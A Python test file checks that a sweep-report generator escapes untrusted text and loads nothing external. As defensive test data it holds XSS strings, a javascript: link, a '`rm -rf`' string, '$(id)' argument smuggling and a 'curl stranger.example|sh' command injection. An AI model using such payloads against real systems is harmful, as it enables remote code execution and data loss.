"""A sweep's report: the same facts in Markdown, in charts and on a page, whatever the sweep was."""

from __future__ import annotations

import base64
import io
import json
import math
import re
import shlex
import sys

import pytest
import yaml
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from PIL import Image

from pipeline.config.compose import format_overrides
from pipeline.config.scores import ChainPoint
from pipeline.report.__main__ import main as command
from pipeline.report.analysis import collect_results, importances, load_results
from pipeline.report.charts import charts
from pipeline.report.html import report
from pipeline.report.markdown import LIMIT, markdown
from pipeline.runtime.errors import UserError
from pipeline.tracking.summary import TERMINAL_STATUSES, SweepSummary, TrialRecord
from pipeline.tracking.trial_steps import TrialSteps
from tests.helpers.cli import load
from tests.helpers.html_page import ParsedPage

screenshots = load("tools/make_screenshots.py")

SETTINGS = {"search": "random", "scheduler": "asha", "space": {"train.base_lr": {"choice": [1]}}, "num_samples": 100}
STRANGE = ["<script>alert(1)</script>", "a|b\n# c", "`rm -rf`", "[x](javascript:alert(1))", "x & y", "\\", "*bold*"]

numbers = st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.floats(1e-6, 1e6))
params = st.fixed_dictionaries(
    {"train.energy_lr": st.floats(1e-6, 1.0)},
    optional={
        "train.base_lr": st.floats(1e-6, 1.0),
        "sampler.step_size": st.one_of(st.floats(1e-6, 1.0), st.just(0.0)),
        "sampler.name": st.sampled_from(["ula", "kla", *STRANGE]),
        "seed": st.integers(0, 3),
    },
)


@st.composite
def sweeps(draw_from):
    mode = draw_from(st.sampled_from(["min", "max"]))
    facts = {"experiment": draw_from(st.sampled_from(["digits", *STRANGE])), "measure": "FID by an extractor"}
    records = SweepSummary("folder", metric="fid_gebm", mode=mode, shown=("fid_base", "fid_gebm"), facts=facts)
    for index in range(draw_from(st.integers(0, 12))):
        trial = records.add(f"{index:03d}", draw_from(params))
        trial.seconds = draw_from(st.floats(0, 1e6))
        for step in range(draw_from(st.integers(0, 3))):
            metrics = {"base_step": 10 * (step + 1), "fid_base": draw_from(numbers), "fid_gebm": draw_from(numbers)}
            records.evaluated(trial, metrics, f"folder/trials/{trial.name}/checkpoints/step-{step:08d}")
        trial.status = draw_from(st.sampled_from([*TERMINAL_STATUSES, "running", "pending"]))
        if trial.status == "failed":
            trial.error = draw_from(st.sampled_from(STRANGE))
    return records


@settings(max_examples=60)
@given(sweeps(), st.booleans())
def test_the_description_says_what_was_found_and_fits(records, with_settings):
    results = collect_results("folder", records, SETTINGS if with_settings else {})
    text = markdown(results)
    assert len(text) <= LIMIT and "pipeline.sweep" in text
    assert "<script" not in re.sub(r"```.*?```|`[^`\n]*`", "", text, flags=re.DOTALL).replace("\\<", "")
    best = records.best()
    if best is None:
        assert "No trial has been evaluated" in text
    else:
        assert f"The best is trial {best.name} at base step {best.best_metrics['base_step']}" in text
        assert str(best.best_checkpoint) in text
    rows = [line for line in markdown(results, limit=None).splitlines() if re.match(r"\| \d{3} \|", line)]
    assert [row[2:5] for row in rows] == [trial.name for trial in records.ranking()]
    # Nothing untrusted adds a column: its pipes are escaped.
    columns = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
    assert len(columns) <= 1


@settings(max_examples=3)
@given(sweeps())
def test_every_chart_has_the_same_points_on_the_page_and_in_the_picture(records):
    results = collect_results("folder", records, SETTINGS)
    keys = [chart.key for chart in charts(results)]
    assert len(set(keys)) == len(keys)
    for chart in charts(results):
        still, moving = chart.to_matplotlib(), chart.to_plotly()
        assert still.axes[0].get_xlabel() == moving.layout.xaxis.title.text == chart.x
        assert [len(trace.x) for trace in moving.data] == [len(series.x) for series in chart.series]
        assert all(math.isfinite(value) for series in chart.series for value in series.x if isinstance(value, float))
        for axis, values in (("x", "x"), ("y", "y")):
            if axis in chart.log:
                shown = [value for series in chart.series for value in getattr(series, values)]
                ticks = moving.layout[f"{axis}axis"].tickvals
                assert min(shown) > 0 and min(2, len(set(shown))) <= len(ticks) <= 20
                assert all(min(shown) / 1.3 <= tick <= max(shown) * 1.3 for tick in ticks)


def a_sweep(folder: str, error: str = "diverged") -> SweepSummary:
    facts = {"experiment": "digits", "measure": "FID by an extractor", "extractor": "an extractor"}
    records = SweepSummary(folder, metric="fid_gebm", mode="min", shown=("fid_base", "fid_gebm"), facts=facts)
    for index in range(12):
        rate = 10.0 ** (-5 + index / 4)
        trial = records.add(f"{index:03d}", {"train.energy_lr": rate, "train.base_lr": 1e-4 * (1 + index % 3)})
        for step in (10, 20):
            score = 5 + abs(math.log10(rate) + 3.5) + 10 / step
            metrics = {"base_step": step, "fid_gebm": score, "fid_base": score + 0.5}
            records.evaluated(trial, metrics, f"{folder}/trials/{trial.name}/checkpoints/step-{step:08d}")
        trial.status, trial.seconds = ("pruned" if index % 3 else "finished"), 60.0
    records.trials[-1].status, records.trials[-1].error = "failed", error
    return records


@pytest.mark.parametrize("largest", [1.7976931348623157e308, 1e-300])
def test_scores_at_the_ends_of_what_a_number_can_be_have_charts(largest):
    records = a_sweep("folder")
    for trial, score in zip(records.trials, (largest, 5e-324), strict=False):
        for step in (10, 20):
            metrics = {"base_step": step, "fid_gebm": score, "fid_base": score}
            records.evaluated(trial, metrics, f"folder/trials/{trial.name}/checkpoints/step-{step:08d}")
    for chart in charts(collect_results("folder", records, {})):
        assert chart.to_matplotlib() and chart.to_plotly()


def test_of_a_search_over_samplers_the_commands_have_the_best_settings():
    records = a_sweep("folder")
    for trial in records.trials:
        trial.params = {"sampler.name": "kla", "sampler.step_size": float(trial.name)}
    records.steps = TrialSteps.of_chains(40)
    best = records.best()
    text = " ".join(markdown(collect_results("folder", records, {})).replace("\\\n", "").split())
    words = f"checkpoint={best.best_checkpoint} sampler.name=kla sampler.step_size={float(best.name)}"
    assert f"pipeline.sample {words}" in text and f"pipeline.evaluate {words}" in text
    assert "pipeline.train" not in text and "sweeps=mcmc" not in text


@pytest.mark.parametrize("key", ["sampler.step_size", "train.base_lr"])
def test_what_was_searched_says_by_which_steps_trials_are_followed(key, tmp_path):
    records = a_sweep(str(tmp_path))
    for trial in records.trials:
        trial.metrics["chain_step"] = 30
    records.write()
    sweep = {"search": "random", "scheduler": "asha", "space": {key: {"uniform": [0.0, 1.0]}}}
    config = {"sweep": sweep, "evaluation": {"num_samples": 100}}
    config |= {"sampler": {"num_steps": 40}, "train": {"base_steps": 9}}
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(config))
    results = load_results(str(tmp_path))
    samples = key.startswith("sampler.")
    assert results.is_sampler_search == samples
    steps = results.records.steps
    assert (steps.unit, steps.total) == (("chain step", 40) if samples else ("base step", 9))
    chart = next(chart for chart in charts(results) if chart.key == "pruning")
    # Not from the parameters of the trials, which are those of a training in both.
    assert chart.x == f"{steps.unit}s" and set(chart.series[0].x) == {0, 30 if samples else 20}
    text = markdown(results, limit=None)
    assert f"pruned at {steps.unit} {30 if samples else 20}: others were better at that step" in text
    assert ("They have no score." in text) == samples


def test_the_best_trial_is_trained_anew_by_one_command_that_names_what_the_sweeps_named():
    records = a_sweep("folder")
    records.facts["named"] = "train.base_steps=40 sweep.num_trials=12 output=folder 'model.energy=a b' ';' '$(id)'"
    best = records.best()
    rates = f"train.energy_lr={best.params['train.energy_lr']!r} train.base_lr={best.params['train.base_lr']!r}"
    # Untrusted arguments run nothing in a shell, and what is no key is left out.
    named = "train.base_steps=40 'model.energy=a b'"
    text = " ".join(markdown(collect_results("folder", records, {})).replace("\\\n", "").split())
    assert f"# train it again python -m pipeline.train conf=digits {named} {rates} #" in text
    records.facts["named"] = "'unfinished"
    assert f"conf=digits {rates}" in " ".join(
        markdown(collect_results("folder", records, {})).replace("\\\n", "").split()
    )


def test_a_command_of_many_words_is_folded_and_a_shell_reads_it_whole():
    records = a_sweep("folder")
    for trial in records.trials:
        trial.params = {f"train.key{index}": f"a 'value' of {trial.name}" for index in range(30)}
    block = markdown(collect_results("folder", records, {}), limit=None).partition("```sh\n")[2].partition("```")[0]
    assert max(map(len, block.splitlines())) <= 110
    commands = [shlex.split(command) for command in block.replace("\\\n", " ").splitlines() if command[0] != "#"]
    params = shlex.split(" ".join(format_overrides(records.best().params)))
    assert ["python", "-m", "pipeline.train", "conf=digits", *params] in commands


def test_the_parameter_that_decides_is_found_out():
    shares = importances(collect_results("folder", a_sweep("folder"), {}))
    assert sum(shares.values()) == pytest.approx(1.0) and shares["train.energy_lr"] > 0.6
    few = a_sweep("folder")
    del few.trials[5:]
    assert importances(collect_results("folder", few, {})) is None


def test_pictures_are_pictures():
    made = report(collect_results("folder", a_sweep("folder"), SETTINGS))
    assert made.pop("report.html").startswith(b"<!doctype html>")
    assert set(made) == {
        "learning_curves.png", "response.png", "against_train_energy_lr.png", "against_train_base_lr.png",
        "importances.png", "pruning.png",
    }  # fmt: skip
    for content in made.values():
        image = Image.open(io.BytesIO(content))
        assert image.width >= 700 and image.height >= 400
        assert len(image.convert("L").getcolors()) > 10, "something is drawn"


def test_the_command_writes_one_page_that_needs_nothing_else(call, tmp_path):
    folder = tmp_path / "sweep"
    records = a_sweep(str(folder), error=STRANGE[0])
    records.write()
    status, printed, _ = call("report", str(folder))
    assert status == 0 and f"{folder}/report/report.html" in "".join(printed.split("\n"))
    text = (folder / "report/report.html").read_text()
    parsed = ParsedPage(text)
    # The trials, what differs between the two best, and the heads of both tables.
    assert not parsed.requested and parsed.tags.count("tr") == 12 + 2 + 2 and "&lt;script&gt;alert(1)" in text
    assert f"<p>{STRANGE[0]}" not in text
    assert text.count('"showSendToCloud": false') == 6, "no button sends a chart to a third-party host"
    stills = re.findall(r'<img alt="[^"]+" src="data:image/png;base64,([^"]+)"', text)
    assert len(stills) == 6 and all(base64.b64decode(one)[1:4] == b"PNG" for one in stills)
    assert load_results(str(folder)).records.best().name == records.best().name
    # plotly's own, that of each chart, and that of the tables.
    assert parsed.tags.count("script") == 2 + text.count('class="plotly-graph-div"') == 8


# What a page or Markdown could load or run, and what plotly's labels could: they know links and styles.
LOADING = [
    "![x](http://stranger.example/x.png)",
    "<img src=http://stranger.example/x.png>",
    "</script><img src=//stranger.example/x>",
    "<a href='http://stranger.example'>x</a>",
    "<span style='fill:url(http://stranger.example/x#y)'>x</span>",
    "[x]: http://stranger.example\n\n![x]",
    "$\\notaformula{$",
    "`\n```\n<img src=//stranger.example>",
    "\x1b]8;;http://stranger.example\x07x\u202e",
]


@settings(max_examples=1, phases=[Phase.explicit, Phase.generate], suppress_health_check=list(HealthCheck))
@given(
    texts=st.lists(st.sampled_from(LOADING) | st.text(max_size=30), min_size=6, max_size=6),
    value=st.sampled_from([*LOADING, 1, 1.5, None]) | st.text(max_size=10),
)
@example(texts=LOADING[:6], value=LOADING[0])
@example(texts=LOADING[3:], value=LOADING[4])
def test_no_text_of_a_summary_is_loaded_or_run_by_the_report(tmp_path, texts, value):
    """Whoever writes the summary writes texts into every field that takes one."""
    records = a_sweep(str(tmp_path / "sweep"))
    records.write()
    document = json.loads((tmp_path / "sweep" / "summary.json").read_text())
    document |= dict(zip(("experiment", "measure", "extractor", "temperature", "named", "store"), texts, strict=True))
    for trial, text in zip(document["trials"], texts, strict=False):
        trial["params"]["sampler.name"], trial["error"] = value, text
        trial["status"] = "failed" if len(text) % 2 else trial["status"]
    (tmp_path / "sweep" / "summary.json").write_text(json.dumps(document))
    page = report(load_results(str(tmp_path / "sweep")))["report.html"].decode()
    drawn = page.partition("</script></head>")[2]
    parsed = ParsedPage(page)
    assert not parsed.requested and parsed.tags.count("style") == 1
    assert not {"link", "img", "iframe", "object"} & set(parsed.tags)
    # plotly's own, that of each chart, and that of the tables.
    assert parsed.tags.count("script") == 2 + page.count('class="plotly-graph-div"')
    # The figures' texts are in scripts, and none of them is markup of plotly's.
    assert not re.search(r"(\\u003c|<)(a|span|img)\b", "".join(re.findall(r"<script.*?</script>", drawn, re.DOTALL)))
    assert "\x1b" not in page and "\u202e" not in page


@pytest.mark.parametrize(
    "field", ["metrics", "best_metrics", "evaluations", "seconds", "checkpoint", "best_checkpoint"]
)
@pytest.mark.parametrize("text", [LOADING[0], "x`;curl stranger.example|sh;", "/elsewhere/step-00000010", "../../x"])
def test_what_is_no_number_and_no_checkpoint_of_the_sweep_is_refused(tmp_path, field, text):
    records = a_sweep(str(tmp_path))
    records.write()
    document = json.loads((tmp_path / "summary.json").read_text())
    wrong = {"metrics": {"base_step": text}, "best_metrics": {"fid_gebm": text}, "evaluations": [{"base_step": text}]}
    document["trials"][0][field] = wrong.get(field, text)
    (tmp_path / "summary.json").write_text(json.dumps(document))
    with pytest.raises(UserError, match=r"summary\.json is damaged"):
        load_results(str(tmp_path))


def test_a_sweep_that_was_moved_names_the_checkpoints_that_it_has_now(tmp_path):
    a_sweep(str(tmp_path / "old")).write()
    (tmp_path / "old").rename(tmp_path / "new")
    best = load_results(str(tmp_path / "new")).records.best()
    assert best.best_checkpoint.startswith(f"{tmp_path}/new/trials/{best.name}/checkpoints/step-")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (None, "no sweep"),
        ("{", "damaged"),
        (json.dumps({"trials": []}), "damaged"),
        (json.dumps({"trials": [{"name": "../x", "params": {}}], "metric": "fid", "mode": "min"}), "damaged"),
    ],
)
def test_what_is_no_sweep_is_one_line(tmp_path, content, expected, monkeypatch, capsys):
    if content is not None:
        (tmp_path / "summary.json").write_text(content)
    monkeypatch.setattr(sys, "argv", ["report", str(tmp_path)])
    with pytest.raises(SystemExit) as stopped:
        command()
    printed = capsys.readouterr().err
    assert stopped.value.code == 2 and expected in printed and printed.count("\n") == 1


def test_a_trial_without_anything_is_no_trouble():
    records = SweepSummary("f", metric="fid_gebm", mode="min", shown=("fid_base", "fid_gebm"), facts={})
    records.trials.append(TrialRecord("000", {}))
    assert "have not ended" in markdown(collect_results("f", records, {}))


def timed(records: SweepSummary, evaluations: int = 2) -> SweepSummary:
    """A sweep in which each trial was evaluated that number of times, one trial after the other, on two GPUs each."""
    records.facts |= {"workers_per_trial": 2, "gpus_per_trial": 2.0}
    for index, trial in enumerate(records.trials):
        trial.evaluations.clear()
        trial.best_metrics, trial.best_checkpoint = {}, None
        for step in range(1, evaluations + 1):
            trial.seconds = 60.0 * step
            metrics = {"base_step": 10 * step, "fid_base": 9.0, "fid_gebm": 20.0 / (index % 7 + 1) + 10 / step}
            metrics["fid_gebm_standard_error"] = 0.1
            checkpoint = f"{records.output}/trials/{trial.name}/checkpoints/step-{step:08d}"
            chain = {0: ChainPoint(9.0), 50: ChainPoint(metrics["fid_gebm"], 0.1)}
            records.evaluated(trial, metrics, checkpoint, chain, sweep_seconds=3600.0 * index + 60.0 * step)
    return records


@pytest.mark.parametrize("mode", ["min", "max"])
def test_scores_have_one_axis_against_steps_time_and_cost(mode, tmp_path):
    records = timed(a_sweep(str(tmp_path)))
    records.mode = mode
    records.write()
    # From the sweep's folder alone.
    results = load_results(str(tmp_path))
    drawn = {chart.key: chart for chart in charts(results)}
    compared = [drawn[key] for key in ("learning_curves", "over_time", "over_cost")]
    assert len({(chart.y_range, chart.log) for chart in compared}) == 1 and compared[0].y_range is not None
    for chart in compared:
        assert chart.to_matplotlib().axes[0].get_ylim() == pytest.approx(chart.y_range)
        ends = [10**end if "y" in chart.log else end for end in chart.to_plotly().layout.yaxis.range]
        assert ends == pytest.approx(chart.y_range)
    against = [chart for key, chart in drawn.items() if key.startswith("against")]
    assert len(against) == 2 and len({(chart.y_range, "y" in chart.log) for chart in against}) == 1
    # Two GPUs for one and for two minutes; and the hours of the sweep, in which the best score only gets better.
    assert all(series.x == pytest.approx([1 / 30, 1 / 15]) for series in drawn["over_cost"].series)
    assert drawn["over_cost"].x == "GPU-hours" and drawn["over_time"].x == "hours"
    best = drawn["over_time"].series[-1]
    scores = [value for series in drawn["over_time"].series[:-1] for value in series.y]
    assert best.y == sorted(best.y, reverse=mode == "min") and best.y[-1] == (min if mode == "min" else max)(scores)
    assert best.x[-1] == pytest.approx((3600 * 11 + 120) / 3600)
    assert len(drawn["along_chain"].series) == 12
    text = markdown(results)
    assert "each on 2 workers: 0.8 worker-hours and 0.8 GPU-hours" in text and "The sweep took 11 hours" in text
    for trial in results.records.trials:
        trial.seconds = 3600.0 * 1000
    assert re.search(
        r"ran for (\d+,000) hours altogether, each on 2 workers: (\d+,000) worker-hours", markdown(results)
    )


@pytest.mark.parametrize(
    ("errors", "verdict"), [((0.1, 0.1), "more than two standard errors"), ((0.4, 0.4), "either may be"), (None, None)]
)
def test_the_best_and_the_next_are_told_apart_by_their_errors(errors, verdict):
    records = a_sweep("folder")
    best, other = records.ranking()[:2]
    other.params = {**best.params, "train.energy_lr": 0.123}
    for trial, score, error in zip((best, other), (4.0, 5.0), errors or (None, None), strict=True):
        trial.best_metrics = {"base_step": 20, "fid_base": 9.0, "fid_gebm": score}
        trial.best_metrics |= {} if error is None else {"fid_gebm_standard_error": error}
    section = (
        markdown(collect_results("folder", records, {})).partition("## The best and the next")[2].partition("##")[0]
    )
    assert f"Trial {other.name} comes next, 1.0" in section and f"behind trial {best.name}" in section
    assert verdict in section if verdict else "standard errors" not in section
    # What both have is not in the table.
    assert "`train.energy_lr` | " in section and "0.1230 |" in section and "train.base_lr" not in section


@given(
    gain=st.floats(-50, 50).filter(lambda gain: abs(gain) > 1e-6),
    errors=st.tuples(st.floats(0.01, 20), st.floats(0.01, 20)),
    mode=st.sampled_from(["min", "max"]),
)
def test_an_energy_is_said_to_help_only_beyond_two_standard_errors(gain, errors, mode):
    records = SweepSummary("folder", metric="a_gebm", mode=mode, shown=("a_base", "a_gebm"), facts={})
    better_by = -gain if mode == "min" else gain
    scores = {"a_base": 100.0, "a_base_standard_error": errors[0]}
    scores |= {"a_gebm": 100.0 + better_by, "a_gebm_standard_error": errors[1]}
    records.evaluated(records.add("000", {}), {"base_step": 1, **scores}, "folder/trials/000/checkpoints/step-00000001")
    [sentence] = re.findall(
        r" With its energy it is (.*?)\. Its parameters", markdown(collect_results("", records, {}))
    )
    assert sentence.startswith("better than its base alone" if gain > 0 else "worse than its base alone")
    difference, error = abs(scores["a_gebm"] - 100.0), math.hypot(*errors)
    if not math.isclose(difference, 2 * error):
        assert sentence.endswith("within two standard errors, which shows nothing") == (difference < 2 * error)


def test_too_few_trials_for_importances_are_said_to_be(tmp_path):
    few = a_sweep(str(tmp_path))
    del few.trials[5:]
    assert "Importances of 2 numeric parameters need 8 trials with a score, and there are 5" in markdown(
        collect_results("folder", few, {})
    )
    assert "`train.energy_lr` " in markdown(collect_results("folder", a_sweep("folder"), {})).partition("forest: ")[2]


def test_a_report_of_thousands_of_trials_is_below_ten_megabytes():
    records = a_sweep("folder")
    for index in range(12, 2000):
        trial = records.add(f"{index:04d}", {f"train.key_{key}": index + key / 7 for key in range(6)})
        trial.status = "finished"
    page = report(collect_results("folder", timed(records, evaluations=40), SETTINGS))["report.html"]
    assert len(page) < 9e6
    assert b"the best 400 of 2,000" in page and b"the last 1,000 of 2,000" in page


def test_tables_sort_by_mouse_and_by_keyboard(tmp_path):
    if missing := screenshots.missing():
        pytest.skip(f"no {missing} here: apt-get install chromium-driver")
    records = timed(a_sweep(str(tmp_path)))
    page = tmp_path / "report.html"
    page.write_bytes(report(collect_results(str(tmp_path), records, {}))["report.html"])
    with screenshots.browser(tmp_path / "browser") as driver:
        screenshots.requested(driver)
        driver.get(page.as_uri())
        heads = driver.find_elements("css selector", "#trials th")

        def column(head: str) -> list[str]:
            column = [one.text.strip() for one in heads].index(head) + 1
            return [cell.text for cell in driver.find_elements("css selector", f"#trials tbody td:nth-child({column})")]

        def button(head: str):
            return next(one for one in heads if one.text.strip() == head).find_element("css selector", "button")

        aligned = {one.text.strip(): one.value_of_css_property("text-align") for one in heads}
        assert {aligned[head] for head in ("trial", "status")} == {"left"}
        assert {aligned[head] for head in ("fid_gebm", "minutes", "train.energy_lr")} == {"right"}
        before = column("fid_gebm")
        assert [float(cell.split()[0]) for cell in before] == sorted(float(cell.split()[0]) for cell in before)
        button("trial").click()
        assert column("trial") == sorted(trial.name for trial in records.trials)
        button("train.energy_lr").send_keys(screenshots.Keys.ENTER)
        rates = [float(cell) for cell in column("train.energy_lr")]
        assert rates == sorted(rates)
        button("train.energy_lr").send_keys(screenshots.Keys.ENTER)
        assert [float(cell) for cell in column("train.energy_lr")] == rates[::-1]
        assert [head.get_attribute("aria-sort") for head in heads].count("descending") == 1
        # Nothing is requested from any address, and no script of the page is refused by its own policy.
        hosts = {host for host in screenshots.requested(driver) if not host.startswith("chrome://")}
        assert hosts <= {"file://", "data://", "blob://"}
        assert driver.find_elements("css selector", ".js-plotly-plot .main-svg")
